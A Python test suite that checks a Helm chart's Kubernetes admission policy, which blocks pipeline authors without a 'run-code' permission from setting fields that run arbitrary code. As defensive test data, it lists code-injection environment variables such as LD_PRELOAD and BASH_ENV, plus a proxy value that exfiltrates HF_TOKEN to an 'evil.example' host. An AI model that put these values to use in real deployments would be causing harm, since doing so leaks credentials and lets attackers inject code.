"""The chart's admission policy on a real API server: who may run code of their own choice."""

import subprocess
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest
import yaml

from llmpipeline.api.admission import places
from llmpipeline.api.crd import marked_schema
from llmpipeline.api.safe_variables import SAFE_VARIABLES
from support.control_plane import Admin, ApiError, ControlPlane, eventually
from support.control_plane.assets import helm
from support.control_plane.quickstart import API, PLURAL, sample
from support.effects.rows import rows
from support.repository import CHART

PLURALS = {
    "ValidatingAdmissionPolicy": "validatingadmissionpolicies",
    "ValidatingAdmissionPolicyBinding": "validatingadmissionpolicybindings",
}
RBAC = "rbac.authorization.k8s.io/v1"


def with_custom(spec: dict[str, Any]) -> None:
    spec["apps"].append({"name": "mine", "custom": {"importPath": "a:b"}})


def with_node(spec: dict[str, Any]) -> None:
    nodes = [{"name": "a", "custom": {"importPath": "a:b"}}]
    spec["apps"].append({"name": "mine", "graph": {"nodes": nodes}})


def with_template(spec: dict[str, Any]) -> None:
    spec["workerDefaults"] = {"podTemplate": {"spec": {"priorityClassName": "a"}}}


def with_account(spec: dict[str, Any]) -> None:
    spec["ray"]["serviceAccountName"] = "somebody"


def as_root(spec: dict[str, Any]) -> None:
    spec["ray"]["podSecurity"] = "Unset"


def without_rays_token(spec: dict[str, Any]) -> None:
    spec["ray"]["authentication"] = "Disabled"


def with_engine_argument(spec: dict[str, Any]) -> None:
    spec["apps"][1]["openai"]["models"][0]["engine"] = {"extra": {"trust_remote_code": True}}


def with_scaling_policy(spec: dict[str, Any]) -> None:
    spec["apps"][0]["hello"] = {"autoscaling": {"maxReplicas": 2, "policy": {"importPath": "a:b"}}}


def with_scaling_policy_of_a_node(spec: dict[str, Any]) -> None:
    scaling = {"maxReplicas": 2, "policy": {"importPath": "a:b"}}
    spec["apps"].append({"name": "mine", "graph": {"nodes": [{"name": "a", "preprocess": {}, "autoscaling": scaling}]}})


def with_variable(name: str, value: str | None = "x") -> Callable[[dict[str, Any]], None]:
    def change(spec: dict[str, Any]) -> None:
        given = (
            {"valueFrom": {"secretKeyRef": {"name": "token", "key": "token"}}} if value is None else {"value": value}
        )
        spec["ray"]["env"] = [{"name": "HF_HUB_OFFLINE", "value": "1"}, {"name": name, **given}]

    return change


def with_redis(spec: dict[str, Any]) -> None:
    spec["head"] = {"faultTolerance": {"redis": {"address": "evil:6379"}}}


def with_cache(path: str) -> Callable[[dict[str, Any]], None]:
    def change(spec: dict[str, Any]) -> None:
        spec["ray"]["modelCache"] = {"path": path, "claimName": "mine"}

    return change


def with_annotation(spec: dict[str, Any]) -> None:
    spec["network"] = {"ingress": {"annotations": {"nginx.ingress.kubernetes.io/configuration-snippet": "x"}}}


def with_another_image(spec: dict[str, Any]) -> None:
    spec["ray"]["image"] = "elsewhere/ray:2.60.0"


FORBIDDEN = [
    (with_custom, "custom code needs the verb run-code"),
    (with_node, "custom code needs the verb run-code"),
    (with_template, "podTemplate needs the verb run-code"),
    (with_account, "ray.serviceAccountName needs the verb run-code"),
    (as_root, "ray.podSecurity needs the verb run-code"),
    (without_rays_token, "ray.authentication needs the verb run-code"),
    (with_engine_argument, "engine.extra needs the verb run-code"),
    (with_scaling_policy, "autoscaling.policy needs the verb run-code"),
    (with_scaling_policy_of_a_node, "autoscaling.policy needs the verb run-code"),
    *(
        (with_variable(name), f"ray.env ({name}) needs the verb run-code")
        for name in (
            "BASH_ENV",
            "ENV",
            "SHELLOPTS",
            "PS4",
            "LD_PRELOAD",
            "LD_LIBRARY_PATH",
            "PYTHONPATH",
            "PYTHONSTARTUP",
            "PATH",
            "RAY_RUNTIME_ENV_HOOK",
            "NCCL_NET_PLUGIN",
            "AWS_ENDPOINT_URL",
            "HF_ENDPOINT",
            "VLLM_PLUGINS",
            "VLLM_ALLOW_INSECURE_SERIALIZATION",
            "SSL_CERT_FILE",
            "OMP_NUM_THREADS2",
        )
    ),
    (with_variable("HTTPS_PROXY", "http://$(HF_TOKEN).evil.example"), "ray.env (HTTPS_PROXY) needs"),
    (with_variable("HTTP_PROXY", None), "ray.env (HTTP_PROXY) needs"),
    (with_redis, "head.faultTolerance.redis needs the verb run-code"),
    (with_cache("/app/lib"), "a ray.modelCache.path outside /models, /cache, /data and /mnt needs the verb run-code"),
    (with_cache("/models/../app"), "a ray.modelCache.path outside"),
    (with_cache("/modelsx"), "a ray.modelCache.path outside"),
    (with_annotation, "network.ingress.annotations needs the verb run-code"),
    (
        with_another_image,
        "a ray.image outside llmpipeline/..., registry.example/... needs the verb run-code",
    ),
]


def rows_of_marked_fields() -> list[Any]:
    """For each marked field of the schema a spec that sets it, out of the table of what changes do."""
    found = []
    for way, mark in places(marked_schema()["properties"]["spec"]):
        if mark["unless"]:  # a value of the table may be one that runs no code; those of FORBIDDEN are not
            continue
        field = ".".join(("spec", *way)).replace("[]", "")
        row = next(row for row in rows() if row.field == field or row.field.startswith(f"{field}."))
        found.append(pytest.param(row.now, mark["what"], id=field))
    return found


@pytest.fixture(scope="module")
def user(control_plane: ControlPlane, admin: Admin) -> Iterator[Admin]:
    """A user who may write pipelines, and nothing else."""
    rules = [
        {"apiGroups": ["serving.llmpipeline.dev"], "resources": [PLURAL], "verbs": ["create", "get", "patch", "delete"]}
    ]
    role = {"apiVersion": RBAC, "kind": "ClusterRole", "metadata": {"name": "pipeline-author"}, "rules": rules}
    admin.create(RBAC, "clusterroles", role)
    admin.bind("operator", "pipeline-author")
    yield control_plane.client_of("operator")
    admin.unbind("operator", "pipeline-author")
    admin.delete(RBAC, "clusterroles", None, "pipeline-author")


@pytest.fixture(scope="module")
def policy(admin: Admin) -> Iterator[None]:
    values = "admissionPolicy.enabled=true,admissionPolicy.images={llmpipeline/,registry.example/}"
    switched_on = ["--kube-version", "1.34.0", "--set", values]
    command = [str(helm()), "template", "op", str(CHART), *switched_on]
    rendered = subprocess.run(command, check=True, capture_output=True, text=True).stdout
    made = [item for item in yaml.safe_load_all(rendered) if item and item["kind"] in PLURALS]
    for manifest in made:
        admin.create(manifest["apiVersion"], PLURALS[manifest["kind"]], manifest)
    yield
    for manifest in made:
        admin.delete(manifest["apiVersion"], PLURALS[manifest["kind"]], None, manifest["metadata"]["name"])
    time.sleep(1)  # the API server goes on with a policy for a moment


def create(client: Admin, namespace: str, change: Any = None) -> None:
    document = sample(namespace)
    document["metadata"]["name"] = "asked"
    if change:
        change(document["spec"])
    client.create(API, PLURAL, document)
    client.delete(API, PLURAL, namespace, "asked")


@pytest.mark.parametrize(("spec", "what"), rows_of_marked_fields())
def test_every_marked_field_needs_the_verb(
    user: Admin, admin: Admin, policy: None, namespace: str, spec: dict[str, Any], what: str
) -> None:
    """The policy is generated from the marks; here it holds for each of them, wherever the field stands."""
    document = {**sample(namespace), "metadata": {"name": "asked", "namespace": namespace}, "spec": spec}

    def rejected() -> str:
        try:
            user.create(API, PLURAL, document)
        except ApiError as error:
            return error.message
        user.delete(API, PLURAL, namespace, "asked")
        return ""

    message = eventually(rejected, 10, f"{what} to be rejected")
    assert f"{what} needs the verb run-code" in message
    admin.create(API, PLURAL, document)  # the spec is sound: nothing but the verb is missing


@pytest.mark.parametrize(("change", "says"), FORBIDDEN)
def test_who_may_not_run_code(user: Admin, policy: None, namespace: str, change: Any, says: str) -> None:
    def refused() -> str:
        """A policy takes effect a moment after it was made."""
        try:
            create(user, namespace, change)
        except ApiError as error:
            return str(error)
        return ""

    assert says in eventually(refused, 10, "the policy to refuse")
    create(user, namespace)


def everything_safe(spec: dict[str, Any]) -> None:
    spec["ray"]["env"] = [{"name": name, "value": "1"} for name in SAFE_VARIABLES]
    spec["ray"]["modelCache"] = {"path": "/models/hub", "claimName": "mine"}
    spec["ray"] |= {"authentication": "Token", "podSecurity": "Restricted"}
    spec["network"] = {"ingress": {"host": "a.example"}}


def test_what_runs_no_code_is_for_all(user: Admin, policy: None, namespace: str) -> None:
    eventually(lambda: _is_rejected(user, namespace, with_custom), 10, "the policy to hold")
    create(user, namespace, everything_safe)


def _is_rejected(user: Admin, namespace: str, change: Any) -> bool:
    try:
        create(user, namespace, change)
    except ApiError:
        return True
    return False


def test_what_leaves_the_spec_as_it_is(user: Admin, admin: Admin, policy: None, namespace: str) -> None:
    """The garbage collector, which may not run code either, takes the finalizer of what it has deleted."""
    document = sample(namespace)
    with_custom(document["spec"])
    document["metadata"]["finalizers"] = ["example.com/held"]
    admin.create(API, PLURAL, document)
    name = document["metadata"]["name"]
    admin.delete(API, PLURAL, namespace, name)
    user.merge_patch(API, PLURAL, namespace, name, {"metadata": {"finalizers": None}})
    assert admin.find(API, PLURAL, namespace, name) is None


def test_who_may(admin: Admin, policy: None, namespace: str) -> None:
    for change, _ in FORBIDDEN:
        create(admin, namespace, change)
